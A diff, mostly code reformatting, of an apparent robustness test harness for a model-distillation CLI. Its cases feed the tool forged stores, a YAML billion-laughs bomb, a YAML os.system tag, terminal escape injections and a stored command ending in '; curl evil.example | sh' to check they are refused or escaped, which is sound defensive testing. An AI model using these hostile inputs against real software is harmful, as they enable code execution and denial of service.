@@ -34,7 +34,9 @@ from pathlib import Path
 from typing import Callable
 
 HERE = Path(__file__).resolve().parent
-BIN = os.path.join(os.path.dirname(sys.executable), "dhkd-pipe")  # PYTHONPATH may point it at another copy of the package
+BIN = os.path.join(
+    os.path.dirname(sys.executable), "dhkd-pipe"
+)  # PYTHONPATH may point it at another copy of the package
 MEMORY_LIMIT = 6 << 30  # address space per case: a hostile case ends in MemoryError, not the machine's OOM
 CHATTER = re.compile(r"Traceback|\[ERROR\]|\[WARNING\]|Warning:|^\s+File \"|Task exception|Unclosed|asyncio", re.M)
 CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f]")  # raw control characters (not \t \n) reaching the terminal
@@ -119,12 +121,22 @@ def start_s3():
     server.start()
     port = server.get_host_and_port()[1]
     proxy = Proxy(port)
-    env = {"AWS_ENDPOINT_URL_S3": f"http://127.0.0.1:{proxy.port}", "AWS_ACCESS_KEY_ID": "probe", "AWS_SECRET_ACCESS_KEY": "probe",
-           "AWS_DEFAULT_REGION": "us-east-1", "AWS_EC2_METADATA_DISABLED": "true"}
+    env = {
+        "AWS_ENDPOINT_URL_S3": f"http://127.0.0.1:{proxy.port}",
+        "AWS_ACCESS_KEY_ID": "probe",
+        "AWS_SECRET_ACCESS_KEY": "probe",
+        "AWS_DEFAULT_REGION": "us-east-1",
+        "AWS_EC2_METADATA_DISABLED": "true",
+    }
     import boto3
 
-    client = boto3.client("s3", endpoint_url=f"http://127.0.0.1:{port}", region_name="us-east-1", aws_access_key_id="probe",
-                          aws_secret_access_key="probe")
+    client = boto3.client(
+        "s3",
+        endpoint_url=f"http://127.0.0.1:{port}",
+        region_name="us-east-1",
+        aws_access_key_id="probe",
+        aws_secret_access_key="probe",
+    )
     client.create_bucket(Bucket=BUCKET)
     return server, proxy, env, client
 
@@ -156,8 +168,15 @@ class W:
         return self.tmp / "logits.zarr"
 
     def vars(self) -> dict:
-        return {"out": self.out, "store": self.store, "tmp": self.tmp, "teacher": self.shared["teacher"], "images": self.shared["images"],
-                "run": self.out, "s3": f"s3://{BUCKET}/{self.tmp.name}"}
+        return {
+            "out": self.out,
+            "store": self.store,
+            "tmp": self.tmp,
+            "teacher": self.shared["teacher"],
+            "images": self.shared["images"],
+            "run": self.out,
+            "s3": f"s3://{BUCKET}/{self.tmp.name}",
+        }
 
 
 @dataclass
@@ -206,7 +225,9 @@ def _limit():
 
 def child_env(extra: dict | None = None) -> dict:
     env = {k: v for k, v in os.environ.items() if not k.startswith("AWS_")}
-    env.update(OMP_NUM_THREADS="1", OMP_WAIT_POLICY="PASSIVE", TRITON_INTERPRET="1", PYTHONUNBUFFERED="1", COLUMNS="200")
+    env.update(
+        OMP_NUM_THREADS="1", OMP_WAIT_POLICY="PASSIVE", TRITON_INTERPRET="1", PYTHONUNBUFFERED="1", COLUMNS="200"
+    )
     env.update(extra or {})
     return env
 
@@ -220,8 +241,10 @@ def finish(proc: subprocess.Popen, bound: float, began: float):
     """(code, stdout, stderr, seconds, max RSS in KiB); past ``bound`` the process group is killed
     (code "timeout")."""
     out, err = [], []
-    threads = [threading.Thread(target=lambda s, acc: acc.append(s.read()), args=(s, acc), daemon=True)
-               for s, acc in ((proc.stdout, out), (proc.stderr, err))]
+    threads = [
+        threading.Thread(target=lambda s, acc: acc.append(s.read()), args=(s, acc), daemon=True)
+        for s, acc in ((proc.stdout, out), (proc.stderr, err))
+    ]
     for t in threads:
         t.start()
     code, rss = None, 0
@@ -336,6 +359,7 @@ def run_holding_its_teacher(name: str):
     def setup(w: W):
         copy_run(w)
         w.keep.append(w.out)
+
     return setup
 
 
@@ -375,9 +399,11 @@ def edit_meta(store: Path, array: str, fn):
 def forged_shape(n: int = 10**9, arrays=("logits", "order", "views", "labels", "done")):
     """The store's metadata claims ``n`` samples (its objects hold 100): consistent, so only a
     check against the objects themselves finds the lie."""
+
     def setup(w: W):
         copy_store(w)
         for name in arrays:
+
             def fn(m, name=name):
                 if name == "labels":
                     m["shape"] = [n]
@@ -385,22 +411,33 @@ def forged_shape(n: int = 10**9, arrays=("logits", "order", "views", "labels", "
                     m["shape"] = [m["shape"][0], -(-n // 32)]
                 else:
                     m["shape"][1] = n
+
             edit_meta(w.store, name, fn)
         w.keep.append(w.store)
+
     return setup
 
 
 def forged_chunk_rows(value):
     def setup(w: W):
         copy_store(w)
-        edit_meta(w.store, "logits", lambda m: m["chunk_grid"]["configuration"].__setitem__("chunk_shape", [1, value, m["shape"][2]]))
+        edit_meta(
+            w.store,
+            "logits",
+            lambda m: m["chunk_grid"]["configuration"].__setitem__("chunk_shape", [1, value, m["shape"][2]]),
+        )
         w.keep.append(w.store)
+
     return setup
 
 
 def forged_labels_short(w: W):
     copy_store(w)
-    edit_meta(w.store, "labels", lambda m: (m.__setitem__("shape", [50]), m["chunk_grid"]["configuration"].__setitem__("chunk_shape", [50])))
+    edit_meta(
+        w.store,
+        "labels",
+        lambda m: (m.__setitem__("shape", [50]), m["chunk_grid"]["configuration"].__setitem__("chunk_shape", [50])),
+    )
     w.keep.append(w.store)
 
 
@@ -421,6 +458,7 @@ def chunk_links_to(target: str):
         os.remove(first_chunk(w.store))
         os.symlink(target, first_chunk(w.store))
         w.keep.append(w.store)
+
     return setup
 
 
@@ -484,6 +522,7 @@ def store_attr(key: str, value, damage: bool = False):
         if damage:
             os.remove(first_chunk(w.store))
         w.keep.append(w.store)
+
     return setup
 
 
@@ -492,6 +531,7 @@ def store_dataset_kind(value: str):
         copy_store(w)
         edit_meta(w.store, "", lambda m: m["attributes"]["dataset"].__setitem__("kind", value))
         w.keep.append(w.store)
+
     return setup
 
 
@@ -500,11 +540,16 @@ def yaml_file(text: str | bytes, name: str = "recipe.yaml"):
         path = w.tmp / name
         path.write_bytes(text if isinstance(text, bytes) else text.encode())
         w.keep.append(path)
+
     return setup
 
 
-BILLION_LAUGHS = "lr_milestones:\n  - &a [" + ",".join(["x"] * 10) + "]\n" + "".join(
-    f"  - &{chr(98 + i)} [" + ",".join([f"*{chr(97 + i)}"] * 10) + "]\n" for i in range(8))  # 10^9 leaves through aliases
+BILLION_LAUGHS = (
+    "lr_milestones:\n  - &a ["
+    + ",".join(["x"] * 10)
+    + "]\n"
+    + "".join(f"  - &{chr(98 + i)} [" + ",".join([f"*{chr(97 + i)}"] * 10) + "]\n" for i in range(8))
+)  # 10^9 leaves through aliases
 
 
 def nan_weights(w: W):
@@ -589,8 +634,21 @@ def cpu_seconds(pid: int) -> float:
 
 def s3_dies_mid_distill(w: W):
     proxy, store = w.shared["proxy"], w.shared["s3_store"]
-    args = ["distill", "--student", "resnet8", "--cache", store, "--epochs", "6", "--batch-size", "16", "--checkpoint-every", "2",
-            "--out", w.out]
+    args = [
+        "distill",
+        "--student",
+        "resnet8",
+        "--cache",
+        store,
+        "--epochs",
+        "6",
+        "--batch-size",
+        "16",
+        "--checkpoint-every",
+        "2",
+        "--out",
+        w.out,
+    ]
     began = time.monotonic()
     proc = start(args, w.env)
     deadline = time.monotonic() + 90
@@ -604,7 +662,9 @@ def s3_dies_mid_distill(w: W):
     if code == 2:  # the storage is back: --resume continues
         r = finish(start(args + ["--resume"], w.env), 120, time.monotonic())
         if r[0] != 0:
-            err += f"\nerror: the resume after the storage came back failed: exit {r[0]}: {r[2].strip().splitlines()[-1:] }"
+            err += (
+                f"\nerror: the resume after the storage came back failed: exit {r[0]}: {r[2].strip().splitlines()[-1:]}"
+            )
     return code, out, err, seconds, rss
 
 
@@ -617,6 +677,7 @@ def s3_frozen(args_fn):
             return finish(start(args_fn(w), w.env), 100, began)
         finally:
             proxy.set("up")
+
     return run
 
 
@@ -638,92 +699,351 @@ IMG_RES = "train-teacher --model resnet18 --data imagefolder:{images} --workers 
 
 CASES = [
     # ownership: remove only what the tool wrote
-    Case("folder-with-users-metrics-taken-for-a-run", "ownership", "issue", TRAIN, match="holds no run|not a run", setup=user_folder_with_metrics),
-    Case("folder-with-users-metrics-overwrite", "ownership", "new", TRAIN + " --overwrite", match="not a run|holds no run",
-         setup=user_folder_with_metrics),
-    Case("store-overwrite-keeps-users-notes", "ownership", "issue", CACHE + " --seed 3 --overwrite", code=(0, 2), max_lines=8,
-         setup=store_with_user_notes),
+    Case(
+        "folder-with-users-metrics-taken-for-a-run",
+        "ownership",
+        "issue",
+        TRAIN,
+        match="holds no run|not a run",
+        setup=user_folder_with_metrics,
+    ),
+    Case(
+        "folder-with-users-metrics-overwrite",
+        "ownership",
+        "new",
+        TRAIN + " --overwrite",
+        match="not a run|holds no run",
+        setup=user_folder_with_metrics,
+    ),
+    Case(
+        "store-overwrite-keeps-users-notes",
+        "ownership",
+        "issue",
+        CACHE + " --seed 3 --overwrite",
+        code=(0, 2),
+        max_lines=8,
+        setup=store_with_user_notes,
+    ),
     Case("store-at-bucket-root-over-foreign-objects", "ownership", "issue", run=None, s3=True),  # filled below
     Case("store-at-empty-bucket-root", "ownership", "new", run=None, s3=True),  # filled below
-    Case("distill-overwrite-deletes-its-teacher", "ownership", "issue", ONLINE.replace("{teacher}", "{out}/model.pt") + " --overwrite",
-         match="inside|--out", setup=run_holding_its_teacher("model.pt")),
-    Case("distill-overwrite-deletes-its-safetensors-teacher", "ownership", "new",
-         ONLINE.replace("{teacher}", "{out}/model.safetensors") + " --overwrite", match="inside|--out", setup=run_holding_its_teacher("")),
-    Case("cache-overwrite-deletes-its-weights", "ownership", "new",
-         CACHE.replace("{teacher}", "{store}/teacher.pt") + " --seed 5 --overwrite", code=(0, 2), match="inside|--out", max_lines=8,
-         setup=store_holding_the_weights),
-    Case("export-over-the-runs-checkpoint", "ownership", "issue", "export {out} --out {out}/checkpoint.pt", match="run's own|its own",
-         setup=lambda w: (copy_run(w), keep_out(w))),
-    Case("export-over-the-runs-metrics", "ownership", "new", "export {out} --out {out}/metrics.jsonl", match="run's own|its own",
-         setup=lambda w: (copy_run(w), keep_out(w))),
-    Case("report-over-the-runs-summary", "ownership", "new", "report {out} --out {out}/summary.json", match="own|format",
-         setup=lambda w: (copy_run(w), keep_out(w))),
-    Case("report-out-a-folder", "ownership", "new", "report {out} --out {tmp}", match="folder",
-         setup=lambda w: (copy_run(w), keep_out(w))),
-    Case("report-format-it-cannot-write", "ownership", "new", "report {out} --out {tmp}/r.txt", match="format|png",
-         setup=lambda w: (copy_run(w), keep_out(w))),
-    Case("sigterm-during-export-keeps-previous-onnx", "ownership", "issue", code=(143,), match="SIGTERM", run=sigterm_during_export),
-    Case("overwrite-keeps-users-onnx-in-a-run", "ownership", "new", TRAIN + " --overwrite", code=(0,), setup=finished_run_with_user_onnx),
-    Case("folder-with-foreign-lock-and-tool-named-folder", "ownership", "new", TRAIN, match="not a run|holds no run",
-         setup=user_folder_with_lock_and_tool_named_folder),
-    Case("overwrite-through-a-symlinked-checkpoint", "ownership", "new", TRAIN + " --overwrite", code=(0, 2),
-         setup=finished_run_with_symlinked_checkpoint),
+    Case(
+        "distill-overwrite-deletes-its-teacher",
+        "ownership",
+        "issue",
+        ONLINE.replace("{teacher}", "{out}/model.pt") + " --overwrite",
+        match="inside|--out",
+        setup=run_holding_its_teacher("model.pt"),
+    ),
+    Case(
+        "distill-overwrite-deletes-its-safetensors-teacher",
+        "ownership",
+        "new",
+        ONLINE.replace("{teacher}", "{out}/model.safetensors") + " --overwrite",
+        match="inside|--out",
+        setup=run_holding_its_teacher(""),
+    ),
+    Case(
+        "cache-overwrite-deletes-its-weights",
+        "ownership",
+        "new",
+        CACHE.replace("{teacher}", "{store}/teacher.pt") + " --seed 5 --overwrite",
+        code=(0, 2),
+        match="inside|--out",
+        max_lines=8,
+        setup=store_holding_the_weights,
+    ),
+    Case(
+        "export-over-the-runs-checkpoint",
+        "ownership",
+        "issue",
+        "export {out} --out {out}/checkpoint.pt",
+        match="run's own|its own",
+        setup=lambda w: (copy_run(w), keep_out(w)),
+    ),
+    Case(
+        "export-over-the-runs-metrics",
+        "ownership",
+        "new",
+        "export {out} --out {out}/metrics.jsonl",
+        match="run's own|its own",
+        setup=lambda w: (copy_run(w), keep_out(w)),
+    ),
+    Case(
+        "report-over-the-runs-summary",
+        "ownership",
+        "new",
+        "report {out} --out {out}/summary.json",
+        match="own|format",
+        setup=lambda w: (copy_run(w), keep_out(w)),
+    ),
+    Case(
+        "report-out-a-folder",
+        "ownership",
+        "new",
+        "report {out} --out {tmp}",
+        match="folder",
+        setup=lambda w: (copy_run(w), keep_out(w)),
+    ),
+    Case(
+        "report-format-it-cannot-write",
+        "ownership",
+        "new",
+        "report {out} --out {tmp}/r.txt",
+        match="format|png",
+        setup=lambda w: (copy_run(w), keep_out(w)),
+    ),
+    Case(
+        "sigterm-during-export-keeps-previous-onnx",
+        "ownership",
+        "issue",
+        code=(143,),
+        match="SIGTERM",
+        run=sigterm_during_export,
+    ),
+    Case(
+        "overwrite-keeps-users-onnx-in-a-run",
+        "ownership",
+        "new",
+        TRAIN + " --overwrite",
+        code=(0,),
+        setup=finished_run_with_user_onnx,
+    ),
+    Case(
+        "folder-with-foreign-lock-and-tool-named-folder",
+        "ownership",
+        "new",
+        TRAIN,
+        match="not a run|holds no run",
+        setup=user_folder_with_lock_and_tool_named_folder,
+    ),
+    Case(
+        "overwrite-through-a-symlinked-checkpoint",
+        "ownership",
+        "new",
+        TRAIN + " --overwrite",
+        code=(0, 2),
+        setup=finished_run_with_symlinked_checkpoint,
+    ),
     Case("resume-store-keeps-users-partial-file", "ownership", "new", CACHE, code=(0,), setup=store_with_user_partial),
     # unbounded on hostile input
     Case("forged-shape-distill", "unbounded", "issue", DISTILL, match="store", setup=forged_shape()),
     Case("forged-shape-inspect", "unbounded", "issue", "inspect {store}", match="store", setup=forged_shape()),
-    Case("forged-done-shape-inspect", "unbounded", "new", "inspect {store}", match="store", setup=forged_shape(n=10**12, arrays=("done",))),
+    Case(
+        "forged-done-shape-inspect",
+        "unbounded",
+        "new",
+        "inspect {store}",
+        match="store",
+        setup=forged_shape(n=10**12, arrays=("done",)),
+    ),
     Case("forged-chunk-rows-zero", "unbounded", "new", "inspect {store}", match="store", setup=forged_chunk_rows(0)),
     Case("forged-labels-shorter-than-logits", "unbounded", "new", DISTILL, match="store", setup=forged_labels_short),
-    Case("forged-codec-attribute", "unbounded", "new", "inspect {store}", match="store|not a complete", setup=forged_codec_attr),
-    Case("chunk-is-a-fifo-distill", "unbounded", "issue", DISTILL, match="store|special|fifo|FIFO", setup=chunk_is_fifo),
-    Case("chunk-is-a-fifo-inspect", "unbounded", "new", "inspect {store}", match="store|special|fifo|FIFO", setup=chunk_is_fifo),
-    Case("chunk-links-to-dev-zero", "unbounded", "issue", "inspect {store}", match="store", setup=chunk_links_to("/dev/zero")),
-    Case("chunk-links-outside-the-store", "unbounded", "new", "inspect {store}", match="store|link", setup=chunk_links_outside),
-    Case("array-folder-links-outside-the-store", "unbounded", "new", DISTILL, match="store|link", setup=array_folder_links_outside),
-    Case("zarr-json-links-to-dev-zero", "unbounded", "new", "inspect {store}", match="store", setup=zarr_json_links_to_zero),
+    Case(
+        "forged-codec-attribute",
+        "unbounded",
+        "new",
+        "inspect {store}",
+        match="store|not a complete",
+        setup=forged_codec_attr,
+    ),
+    Case(
+        "chunk-is-a-fifo-distill", "unbounded", "issue", DISTILL, match="store|special|fifo|FIFO", setup=chunk_is_fifo
+    ),
+    Case(
+        "chunk-is-a-fifo-inspect",
+        "unbounded",
+        "new",
+        "inspect {store}",
+        match="store|special|fifo|FIFO",
+        setup=chunk_is_fifo,
+    ),
+    Case(
+        "chunk-links-to-dev-zero",
+        "unbounded",
+        "issue",
+        "inspect {store}",
+        match="store",
+        setup=chunk_links_to("/dev/zero"),
+    ),
+    Case(
+        "chunk-links-outside-the-store",
+        "unbounded",
+        "new",
+        "inspect {store}",
+        match="store|link",
+        setup=chunk_links_outside,
+    ),
+    Case(
+        "array-folder-links-outside-the-store",
+        "unbounded",
+        "new",
+        DISTILL,
+        match="store|link",
+        setup=array_folder_links_outside,
+    ),
+    Case(
+        "zarr-json-links-to-dev-zero",
+        "unbounded",
+        "new",
+        "inspect {store}",
+        match="store",
+        setup=zarr_json_links_to_zero,
+    ),
     Case("store-lock-is-a-fifo", "unbounded", "new", "inspect {store}", code=(0, 2), setup=lock_is_fifo),
     Case("deeply-nested-zarr-json", "unbounded", "issue", "inspect {store}", match="store", setup=nested_zarr_json),
     Case("huge-zarr-json", "unbounded", "new", "inspect {store}", match="store|large", setup=huge_zarr_json),
-    Case("yaml-billion-laughs", "unbounded", "issue", TRAIN + " --config {tmp}/recipe.yaml", match="config", setup=yaml_file(BILLION_LAUGHS)),
+    Case(
+        "yaml-billion-laughs",
+        "unbounded",
+        "issue",
+        TRAIN + " --config {tmp}/recipe.yaml",
+        match="config",
+        setup=yaml_file(BILLION_LAUGHS),
+    ),
     Case("absurd-resolution", "unbounded", "issue", IMG_RES + " --resolution 100000", match="--resolution"),
-    Case("absurd-batch-size-cached", "unbounded", "new", DISTILL + " --batch-size 1000000000000", code=(0, 2), setup=copy_store),
+    Case(
+        "absurd-batch-size-cached",
+        "unbounded",
+        "new",
+        DISTILL + " --batch-size 1000000000000",
+        code=(0, 2),
+        setup=copy_store,
+    ),
     # values checked where they enter
-    Case("eval-nan-weights-json", "values", "issue", "eval --model resnet8 --weights {tmp}/nan.pt --data digits", code=(0, 2),
-         setup=nan_weights, check=strict_json_stdout),
-    Case("verify-cache-zero-samples", "values", "issue", "verify-cache {store} --samples 0", match="--samples", setup=copy_store),
-    Case("verify-cache-nan-tolerance", "values", "issue", "verify-cache {store} --tolerance nan", match="--tolerance", setup=copy_store),
-    Case("export-unsupported-opset", "values", "issue", "export {out} --opset 999", match="--opset|opset",
-         setup=lambda w: (copy_run(w), keep_out(w))),
+    Case(
+        "eval-nan-weights-json",
+        "values",
+        "issue",
+        "eval --model resnet8 --weights {tmp}/nan.pt --data digits",
+        code=(0, 2),
+        setup=nan_weights,
+        check=strict_json_stdout,
+    ),
+    Case(
+        "verify-cache-zero-samples",
+        "values",
+        "issue",
+        "verify-cache {store} --samples 0",
+        match="--samples",
+        setup=copy_store,
+    ),
+    Case(
+        "verify-cache-nan-tolerance",
+        "values",
+        "issue",
+        "verify-cache {store} --tolerance nan",
+        match="--tolerance",
+        setup=copy_store,
+    ),
+    Case(
+        "export-unsupported-opset",
+        "values",
+        "issue",
+        "export {out} --opset 999",
+        match="--opset|opset",
+        setup=lambda w: (copy_run(w), keep_out(w)),
+    ),
     Case("seed-negative", "values", "new", TRAIN + " --seed -1", match="seed"),
     Case("seed-beyond-64-bits", "values", "new", TRAIN + " --seed 99999999999999999999999", match="seed"),
     Case("lr-nan", "values", "new", TRAIN + " --lr nan", match="lr"),
-    Case("lr-inf-from-yaml", "values", "new", TRAIN + " --config {tmp}/recipe.yaml", match="lr", setup=yaml_file("lr: .inf\n")),
+    Case(
+        "lr-inf-from-yaml",
+        "values",
+        "new",
+        TRAIN + " --config {tmp}/recipe.yaml",
+        match="lr",
+        setup=yaml_file("lr: .inf\n"),
+    ),
     Case("momentum-negative", "values", "new", TRAIN + " --momentum -1", match="momentum"),
     Case("weight-decay-nan", "values", "new", TRAIN + " --weight-decay nan", match="weight.decay"),
     Case("lr-decay-negative", "values", "new", TRAIN + " --lr-decay -1", match="lr.decay"),
     Case("lr-milestones-negative", "values", "new", TRAIN + " --lr-milestones 0,-5", match="milestones"),
-    Case("eval-batch-size-zero", "values", "new", "eval --model resnet8 --weights {teacher} --data digits --batch-size 0", match="batch.size"),
+    Case(
+        "eval-batch-size-zero",
+        "values",
+        "new",
+        "eval --model resnet8 --weights {teacher} --data digits --batch-size 0",
+        match="batch.size",
+    ),
     Case("alpha-inf", "values", "new", ONLINE + " --method kd --alpha inf", match="alpha"),
-    Case("config-not-utf8", "values", "new", TRAIN + " --config {tmp}/recipe.yaml", match="UTF-8|utf-8|encoding",
-         setup=yaml_file("# r\xe9glages\nepochs: 1\n".encode("latin-1"))),
-    Case("config-python-tag", "values", "new", TRAIN + " --config {tmp}/recipe.yaml", match="config",
-         setup=yaml_file("epochs: !!python/object/apply:os.system ['touch /tmp/probe19-pwned']\n"),
-         check=lambda w, o, e: "the payload ran" if os.path.exists("/tmp/probe19-pwned") else None),
+    Case(
+        "config-not-utf8",
+        "values",
+        "new",
+        TRAIN + " --config {tmp}/recipe.yaml",
+        match="UTF-8|utf-8|encoding",
+        setup=yaml_file("# r\xe9glages\nepochs: 1\n".encode("latin-1")),
+    ),
+    Case(
+        "config-python-tag",
+        "values",
+        "new",
+        TRAIN + " --config {tmp}/recipe.yaml",
+        match="config",
+        setup=yaml_file("epochs: !!python/object/apply:os.system ['touch /tmp/probe19-pwned']\n"),
+        check=lambda w, o, e: "the payload ran" if os.path.exists("/tmp/probe19-pwned") else None,
+    ),
     # object storage failing
-    Case("s3-dies-mid-distill", "storage", "issue", code=(2,), max_lines=3, run=s3_dies_mid_distill, s3=True, bound=180),
-    Case("s3-frozen-inspect", "storage", "issue", code=(2,), run=s3_frozen(lambda w: ["inspect", w.shared["s3_store"]]), s3=True),
-    Case("s3-frozen-cache-teacher", "storage", "new", code=(2,), max_lines=4, s3=True,
-         run=s3_frozen(lambda w: shlex.split(CACHE.format(**{**w.vars(), "store": w.vars()["s3"]})))),
+    Case(
+        "s3-dies-mid-distill", "storage", "issue", code=(2,), max_lines=3, run=s3_dies_mid_distill, s3=True, bound=180
+    ),
+    Case(
+        "s3-frozen-inspect",
+        "storage",
+        "issue",
+        code=(2,),
+        run=s3_frozen(lambda w: ["inspect", w.shared["s3_store"]]),
+        s3=True,
+    ),
+    Case(
+        "s3-frozen-cache-teacher",
+        "storage",
+        "new",
+        code=(2,),
+        max_lines=4,
+        s3=True,
+        run=s3_frozen(lambda w: shlex.split(CACHE.format(**{**w.vars(), "store": w.vars()["s3"]}))),
+    ),
     # stored strings shown safely
-    Case("inspect-escapes-control-characters", "strings", "issue", "inspect {store}", code=(1,), check=no_raw_control,
-         setup=store_attr("command_line", "dhkd-pipe cache-teacher --model resnet8 \x1b[2J\x1b]0;owned\x07\r", damage=True)),
-    Case("repair-hint-quoted", "strings", "issue", "inspect {store}", code=(1,), check=hint_quoted,
-         setup=store_attr("command_line", "dhkd-pipe cache-teacher --model resnet8; curl evil.example | sh", damage=True)),
-    Case("inspect-tool-version-escape", "strings", "new", "inspect {store}", code=(0,), check=no_raw_control,
-         setup=store_attr("tool_version", "1.0\x1b[31m")),
-    Case("mismatch-message-escapes-dataset-kind", "strings", "new", DISTILL + " --data digits@100", check=no_raw_control,
-         setup=store_dataset_kind("digits\x1b]0;owned\x07")),
+    Case(
+        "inspect-escapes-control-characters",
+        "strings",
+        "issue",
+        "inspect {store}",
+        code=(1,),
+        check=no_raw_control,
+        setup=store_attr(
+            "command_line", "dhkd-pipe cache-teacher --model resnet8 \x1b[2J\x1b]0;owned\x07\r", damage=True
+        ),
+    ),
+    Case(
+        "repair-hint-quoted",
+        "strings",
+        "issue",
+        "inspect {store}",
+        code=(1,),
+        check=hint_quoted,
+        setup=store_attr(
+            "command_line", "dhkd-pipe cache-teacher --model resnet8; curl evil.example | sh", damage=True
+        ),
+    ),
+    Case(
+        "inspect-tool-version-escape",
+        "strings",
+        "new",
+        "inspect {store}",
+        code=(0,),
+        check=no_raw_control,
+        setup=store_attr("tool_version", "1.0\x1b[31m"),
+    ),
+    Case(
+        "mismatch-message-escapes-dataset-kind",
+        "strings",
+        "new",
+        DISTILL + " --data digits@100",
+        check=no_raw_control,
+        setup=store_dataset_kind("digits\x1b]0;owned\x07"),
+    ),
     # resume must not change its data
     Case("resume-after-store-replaced", "resume", "issue", match="store", run=resume_after_store_replaced),
 ]
@@ -738,6 +1058,7 @@ def _s3_root_cases():
             if p.is_file() and p.name != ".lock":
                 client.put_object(Bucket="photos", Key=str(p.relative_to(w.shared["store"])), Body=p.read_bytes())
         client.put_object(Bucket="photos", Key="holiday/cat.jpg", Body=b"a cat")
+
         def cat_kept():
             try:
                 return client.get_object(Bucket="photos", Key="holiday/cat.jpg")["Body"].read() == b"a cat"
@@ -756,11 +1077,17 @@ def _s3_root_cases():
             if getattr(w, "s3_check", None) and not w.s3_check():
                 return r[0], r[1], r[2] + "\nerror: the bucket's foreign object was removed", r[3], r[4]
             return r
+
         return run
 
     for case in CASES:
         if case.id == "store-at-bucket-root-over-foreign-objects":
-            case.setup, case.run, case.match, case.max_lines = foreign, run_for("photos", " --seed 3 --overwrite"), "bucket", 4
+            case.setup, case.run, case.match, case.max_lines = (
+                foreign,
+                run_for("photos", " --seed 3 --overwrite"),
+                "bucket",
+                4,
+            )
         elif case.id == "store-at-empty-bucket-root":
             case.setup, case.run, case.match, case.max_lines = empty, run_for("empty-bucket", ""), "bucket", 4
 
@@ -785,7 +1112,9 @@ def build_shared(root: Path, need_s3: bool, need_onnx: bool) -> dict:
     for seed, name in ((0, "store"), (1, "store_seed1")):
         store = root / f"{name}.zarr"
         if not store.exists():
-            r = finish(start(CACHE.format(teacher=shared["teacher"], store=store) + f" --seed {seed}"), 300, time.monotonic())
+            r = finish(
+                start(CACHE.format(teacher=shared["teacher"], store=store) + f" --seed {seed}"), 300, time.monotonic()
+            )
             assert r[0] == 0, r[2]
         shared[name] = store
     if need_onnx:
@@ -801,7 +1130,11 @@ def build_shared(root: Path, need_s3: bool, need_onnx: bool) -> dict:
         server, proxy, env, client = start_s3()
         shared.update(s3_server=server, proxy=proxy, s3_env=env, s3_client=client)
         store = f"s3://{BUCKET}/shared-store.zarr"
-        r = finish(start(CACHE.format(teacher=shared["teacher"], store=store).replace("digits@100", "digits@600"), env), 300, time.monotonic())
+        r = finish(
+            start(CACHE.format(teacher=shared["teacher"], store=store).replace("digits@100", "digits@600"), env),
+            300,
+            time.monotonic(),
+        )
         assert r[0] == 0, r[2]
         shared["s3_store"] = store
     return shared
@@ -816,14 +1149,20 @@ def _write_images(root: Path):
         for c in range(2):
             os.makedirs(root / split / f"c{c}", exist_ok=True)
             for k in range(n):
-                Image.fromarray(rng.integers(0, 255, (40, 48, 3), dtype=np.uint8)).save(root / split / f"c{c}" / f"{k}.JPEG")
+                Image.fromarray(rng.integers(0, 255, (40, 48, 3), dtype=np.uint8)).save(
+                    root / split / f"c{c}" / f"{k}.JPEG"
+                )
 
 
 def main():
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     parser.add_argument("--only", help="comma-separated case ids")
     parser.add_argument("--json", help="write the results here")
-    parser.add_argument("--root", default=os.path.join(tempfile.gettempdir(), "probe19-shared"), help="shared fixtures (kept between runs)")
+    parser.add_argument(
+        "--root",
+        default=os.path.join(tempfile.gettempdir(), "probe19-shared"),
+        help="shared fixtures (kept between runs)",
+    )
     opts = parser.parse_args()
     cases = [c for c in CASES if not opts.only or c.id in opts.only.split(",")]
     root = Path(opts.root)
@@ -841,16 +1180,32 @@ def main():
             else:
                 code, out, err, seconds, rss = run_cli(case.args, w, case.bound)
             problem = judge(case, w, code, out, err, seconds, before)
-        results.append({"id": case.id, "class": case.cls, "origin": case.origin, "held": problem is None, "problem": problem,
-                        "exit": code, "seconds": round(seconds, 1), "max_rss_mb": round(rss / 1024), "last_line": (err.strip().splitlines() or [""])[-1][:200]})
+        results.append(
+            {
+                "id": case.id,
+                "class": case.cls,
+                "origin": case.origin,
+                "held": problem is None,
+                "problem": problem,
+                "exit": code,
+                "seconds": round(seconds, 1),
+                "max_rss_mb": round(rss / 1024),
+                "last_line": (err.strip().splitlines() or [""])[-1][:200],
+            }
+        )
         r = results[-1]
-        print(f"{'HELD ' if r['held'] else 'BROKE'} {case.id:<50} {case.origin:<5} exit {str(code):<7} {seconds:5.1f} s {r['max_rss_mb']:5d} MB"
-              + ("" if r["held"] else f"  {problem}"), flush=True)
+        print(
+            f"{'HELD ' if r['held'] else 'BROKE'} {case.id:<50} {case.origin:<5} exit {str(code):<7} {seconds:5.1f} s {r['max_rss_mb']:5d} MB"
+            + ("" if r["held"] else f"  {problem}"),
+            flush=True,
+        )
     held = sum(r["held"] for r in results)
     issue = [r for r in results if r["origin"] == "issue"]
     new = [r for r in results if r["origin"] == "new"]
-    print(f"\n{held}/{len(results)} held; the issue's breaks: {sum(r['held'] for r in issue)}/{len(issue)}; "
-          f"this probe's own cases: {sum(r['held'] for r in new)}/{len(new)}")
+    print(
+        f"\n{held}/{len(results)} held; the issue's breaks: {sum(r['held'] for r in issue)}/{len(issue)}; "
+        f"this probe's own cases: {sum(r['held'] for r in new)}/{len(new)}"
+    )
     if opts.json:
         Path(opts.json).write_text(json.dumps(results, indent=2) + "\n")
     if "s3_server" in shared:
